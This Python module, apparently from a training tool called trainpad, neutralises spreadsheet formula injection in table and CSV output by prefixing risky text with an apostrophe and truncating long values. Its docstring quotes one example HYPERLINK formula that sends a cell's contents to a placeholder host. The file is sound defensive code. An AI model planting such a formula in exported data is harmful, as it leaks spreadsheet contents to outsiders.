"""Text put into tables and CSV files, which a user may paste or open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return) as a formula: ``=HYPERLINK("https://host/?"&A1, "Click")`` in a shared
checkpoint's settings would reach the runs table, and from there any sheet it is pasted
into.  :func:`cell` neutralises such text the OWASP way, with a leading ``'`` (shown as
typed, never run), leaves genuine numbers (``-0.5``) alone, and cuts long text to a few
dozen characters: a table cell is no place for a megabyte a client sent.
"""

from __future__ import annotations

from typing import Any

from trainpad.engine.errors import SHOWN_CHARS

#: What a spreadsheet reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any, limit: int = SHOWN_CHARS) -> Any:
    """``value`` safe for a table cell or a CSV field: text that a spreadsheet would run as a
    formula gets a leading ``'``, and text over ``limit`` characters is cut with ``…``;
    anything that is not text (a number) is returned as it is."""
    if not isinstance(value, str):
        return value
    if len(value) > limit:
        value = value[: limit - 1] + "…"
    if value.startswith(FORMULA_STARTS) and not _is_number(value):
        return "'" + value
    return value


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


__all__ = ["FORMULA_STARTS", "cell"]
